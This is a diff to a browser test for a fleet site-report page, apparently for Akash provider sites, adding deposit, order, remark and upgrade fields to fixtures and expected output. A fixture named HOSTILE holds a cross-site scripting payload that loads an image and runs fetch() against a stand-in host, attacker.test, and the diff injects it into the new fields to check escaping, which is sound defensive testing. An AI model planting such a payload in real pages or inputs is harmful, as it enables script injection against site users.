@@ -8,6 +8,7 @@ import type { Browser } from "puppeteer-core";
 import type { SiteReport } from "../../fleet/report/model.ts";
 import { renderReport } from "../../fleet/report/page.ts";
 import { openBrowser } from "../support/browser.ts";
+import { figures } from "../unit/fleet/siteReport.ts";
 
 const LONG = "x".repeat(400);
 const HOSTILE = `"><img src="http://attacker.test/x"><script>fetch("http://attacker.test")</script>${LONG}`;
@@ -19,16 +20,22 @@ const well: SiteReport = {
   result: "compared",
   drift: [],
   pending: [],
-  versions: { provider: "0.16.2", running: "0.16.1", kubernetes: "v1.34.3", chain: "v2" },
+  versions: { set: "2026-08", provider: "0.16.2", running: "0.16.1", kubernetes: "v1.34.3", chain: "v2" },
   certificate: { state: "valid", notAfter: "2027-11-21T00:00:00Z" },
   balance: { uakt: "123456789000000", uact: "5000000" },
   leases: 12,
-  earnings: ["1.5 AKT a day", "200 ACT paid out"],
+  earnings: figures.earnings,
+  deposits: { openBids: 2, locked: { uakt: "123456789000000", uact: "5000000" } },
+  orders: figures.orders,
+  next: "Most open orders offer less than this site asks; compare `pricing` with what others ask.",
   lastRollout: { id: "x", time: "2026-11-21T17:00:00Z", result: "updated" },
 };
 const drifted: SiteReport = {
   ...well,
   name: "munich",
+  remarks: [`- auditors-checklist (medium), munich-registration: ${HOSTILE}`],
+  upgrade: `The chain ${LONG} upgrades.`,
+  unknown: [HOSTILE],
   domain: `${"very-long-".repeat(20)}.example.com`,
   drift: [
     {
@@ -53,7 +60,7 @@ const silent: SiteReport = {
   because: HOSTILE,
   drift: [],
   pending: [],
-  versions: { provider: "0.16.2" },
+  versions: { set: "2026-08", provider: "0.16.2" },
   lastRollout: { id: "x", time: "2026-11-21T17:00:00Z", result: "failed", because: HOSTILE },
 };
 
@@ -142,13 +149,16 @@ describe("the fleet's report in a browser", function () {
       "123,456,789 AKT, 5 ACT",
       "12",
       "1.5 AKT a day, 200 ACT paid out",
+      "123,456,789 AKT, 5 ACT in running leases and 2 open bids",
+      "4 open orders seen; 1 bid open, 12 won, 2 lost; no bid for their price (2), want of an audit (1); lost for",
+      "Most open orders offer less",
       "updated, 2026-11-21 17:00 UTC",
     ]) {
       assert.ok(sites.get("berlin")?.includes(words), words);
     }
     assert.match(
       sites.get("munich") ?? "",
-      /2 drifted[\s\S]*Drift \(2\)[\s\S]*munich-inventory missing[\s\S]*Pending \(1\)/,
+      /2 drifted[\s\S]*Remarks \(1\)[\s\S]*Drift \(2\)[\s\S]*munich-inventory missing[\s\S]*Pending \(1\)/,
     );
     const portland = sites.get("portland") ?? "";
     assert.match(portland, /does not answer/);
